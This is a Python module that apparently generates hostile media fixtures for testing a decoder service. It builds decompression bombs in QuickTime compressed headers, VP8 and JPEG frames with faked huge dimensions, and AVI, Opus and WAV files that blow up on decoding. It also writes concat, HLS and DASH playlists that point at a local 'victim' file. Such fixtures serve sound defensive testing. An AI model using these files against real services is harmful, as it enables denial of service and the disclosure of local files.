"""Recordings that were made to cost whoever reads them: small files that become much memory, time, or another file."""

from __future__ import annotations

import struct
import zlib
from fractions import Fraction
from pathlib import Path

import av
import numpy as np

HUGE = 16_000


def jump(path: Path, pictures: int = 1000, every: float = 9.9) -> Path:
    """Pictures of a few bytes each, `every` seconds apart."""
    with av.open(str(path), "w", format="matroska") as out:
        stream = _video(out, "mpeg4")
        frame = av.VideoFrame.from_ndarray(np.full((72, 64), 128, np.uint8), format="yuv420p")
        for n in range(pictures):
            frame.pts, frame.time_base = round(n * every * 25), Fraction(1, 25)
            out.mux(stream.encode(frame))
        out.mux(stream.encode(None))
    return path


def huge_pictures(path: Path, streams: int = 1, side: int = HUGE) -> Path:
    """VP8 pictures that are declared 64 by 48 in the container and say `side` by `side` themselves (RFC 6386, 9.1)."""
    with av.open(str(path), "w", format="matroska") as out:
        tracks = [_video(out, "libvpx") for _ in range(streams)]
        for track in tracks:
            for n in range(5):
                frame = av.VideoFrame.from_ndarray(np.full((72, 64), 128, np.uint8), format="yuv420p")
                frame.pts, frame.time_base = n, Fraction(1, 25)
                out.mux(track.encode(frame))
            out.mux(track.encode(None))
    data, told = path.read_bytes(), b"\x9d\x01\x2a" + struct.pack("<HH", 64, 48)
    assert data.count(told) == streams
    path.write_bytes(data.replace(told, b"\x9d\x01\x2a" + struct.pack("<HH", side, side)))
    return path


def huge_jpegs(path: Path, streams: int = 1, side: int = 12_000) -> Path:
    """Grey JPEG pictures that are whole, at four bytes for each 16 by 16 pixels, in tracks of 64 by 48."""
    encoder = av.CodecContext.create("mjpeg", "w")
    assert isinstance(encoder, av.VideoCodecContext)
    encoder.width, encoder.height, encoder.pix_fmt, encoder.time_base = 64, 48, "yuvj420p", Fraction(1, 25)
    encoder.options = {"huffman": "default"}
    grey = av.VideoFrame.from_ndarray(np.full((72, 64), 128, np.uint8), format="yuvj420p")
    small = b"".join(bytes(packet) for packet in encoder.encode(grey))
    told = small.index(b"\xff\xc0\x00\x11\x08") + 5
    scan = small.index(b"\xff\xda")
    head = small[:told] + struct.pack(">HH", side, side) + small[told + 4 : scan + 14]
    # No difference and the end of the block, by the tables of ITU-T T.81 annex K: four times of luma, twice of chroma.
    picture = head + b"\x28\xa2\x8a\x00" * (-(-side // 16)) ** 2 + b"\xff\xd9"
    with av.open(str(path), "w", format="matroska") as out:
        for track in [_video(out, "mjpeg", "yuvj420p") for _ in range(streams)]:
            packet = av.Packet(picture)
            packet.stream, packet.time_base, packet.pts, packet.dts = track, Fraction(1, 25), 0, 0
            packet.is_keyframe = True
            out.mux(packet)
    return path


def many_streams(path: Path, streams: int = 10_000) -> Path:
    """An AVI whose header lists streams of sound, and nothing else."""
    sound = struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8)
    header = struct.pack("<4s4sIHHIIIIIIII8x", b"auds", b"\0\0\0\0", 0, 0, 0, 0, 1, 8000, 0, 100, 8000, 0, 1)
    listed = _list(b"strl", _chunk(b"strh", header) + _chunk(b"strf", sound)) * streams
    main = struct.pack("<10I16x", 40_000, 8000, 0, 0, 100, 0, streams, 8000, 0, 0)
    body = _list(b"hdrl", _chunk(b"avih", main) + listed) + _list(b"movi", _chunk(b"00wb", bytes(8000)))
    path.write_bytes(b"RIFF" + struct.pack("<I", len(body) + 4) + b"AVI " + body)
    return path


def endless_sound(path: Path, seconds: int = 400) -> Path:
    """Opus in Ogg whose packets are one byte that stands for 120 ms: two frames of nothing (RFC 6716, 3.2.1)."""
    with av.open(str(path), "w", format="ogg") as out:
        stream = out.add_stream("libopus", rate=48_000, layout="mono")
        assert isinstance(stream, av.AudioStream)
        out.start_encoding()
        for n in range(round(seconds / 0.12)):
            packet = av.Packet(b"\x19")
            packet.stream, packet.time_base = stream, Fraction(1, 48_000)
            packet.pts = packet.dts = n * 5760
            packet.duration = 5760
            out.mux(packet)
    return path


def slow_sound(path: Path, samples: int = 20_000) -> Path:
    """A WAV of one sample a second: each becomes 16,000."""
    fmt = struct.pack("<HHIIHH", 1, 1, 1, 1, 1, 8)
    body = b"WAVE" + _chunk(b"fmt ", fmt) + _chunk(b"data", bytes(samples))
    path.write_bytes(b"RIFF" + struct.pack("<I", len(body)) + body)
    return path


def compressed_header(path: Path, size: int = 1_900_000_000) -> Path:
    """An MP4 whose header is compressed, as QuickTime allows, and has `size` bytes when it is not."""
    path.write_bytes(_box(b"ftyp", b"qt  \0\0\0\0qt  ") + _compressed(size))
    return path


def nested_headers(path: Path, depth: int = 200) -> Path:
    """Compressed headers in compressed headers."""
    inner = _box(b"moov", b"")
    for _ in range(depth):
        inner = _box(
            b"moov", _box(b"cmov", _box(b"dcom", b"zlib") + _box(b"cmvd", _sized(len(inner), zlib.compress(inner))))
        )
    path.write_bytes(_box(b"ftyp", b"qt  \0\0\0\0qt  ") + inner)
    return path


def nested_files(path: Path, depth: int = 4) -> Path:
    """A Matroska file that is attached to one that is attached to one."""
    inner = b""
    for _ in range(depth):
        with av.open(str(path), "w", format="matroska") as out:
            stream = out.add_stream("pcm_s16le", rate=8000, layout="mono")
            assert isinstance(stream, av.AudioStream)
            if inner:
                out.add_attachment("inner.mkv", "video/x-matroska", inner)
            packet = av.Packet(bytes(1600))
            packet.stream, packet.time_base, packet.pts, packet.dts = stream, Fraction(1, 8000), 0, 0
            out.mux(packet)
        inner = path.read_bytes()
    return path


def subtitles(path: Path, lines: int = 50_000) -> Path:
    """A text of subtitles, for a day."""
    path.write_text("".join(f"{n}\n{_clock(n)} --> {_clock(n + 1)}\nword\n\n" for n in range(lines)))
    return path


PLAYLISTS = {
    "concat": "ffconcat version 1.0\nfile {victim.name}\n",
    "hls": "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n{victim.name}\n#EXT-X-ENDLIST\n",
    "dash": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT2S"><Period>'
    '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>file://{victim}</BaseURL>'
    "</Representation></AdaptationSet></Period></MPD>",
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=-\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video 5004 RTP/AVP 96\na=rtpmap:96 VP8/90000\n",
}


def playlist(path: Path, kind: str, victim: Path) -> Path:
    """A list that names another file, which must not be read."""
    path.write_text(PLAYLISTS[kind].format(victim=victim))
    return path


def _video(out: av.container.OutputContainer, codec: str, pixels: str = "yuv420p") -> av.VideoStream:
    stream = out.add_stream(codec, rate=25)
    assert isinstance(stream, av.VideoStream)
    stream.width, stream.height, stream.pix_fmt = 64, 48, pixels
    stream.gop_size = 10_000
    return stream


def _compressed(size: int) -> bytes:
    """The header of `size` zeros: one block of deflate, again and again, and the sum that belongs to it."""
    block_bytes = 1 << 20
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(bytes(block_bytes)) + deflate.flush(zlib.Z_FULL_FLUSH)
    blocks = size // block_bytes
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    adler = ((blocks * block_bytes % 65521) << 16) | 1
    stream = b"\x78\xda" + block * blocks + end + struct.pack(">I", adler)
    return _box(b"moov", _box(b"cmov", _box(b"dcom", b"zlib") + _box(b"cmvd", _sized(blocks * block_bytes, stream))))


def _sized(size: int, body: bytes) -> bytes:
    return struct.pack(">I", size) + body


def _box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + name + body


def _chunk(name: bytes, body: bytes) -> bytes:
    return name + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)


def _list(name: bytes, body: bytes) -> bytes:
    return _chunk(b"LIST", name + body)


def _clock(second: int) -> str:
    return f"{second // 3600 % 100:02}:{second // 60 % 60:02}:{second % 60:02},000"
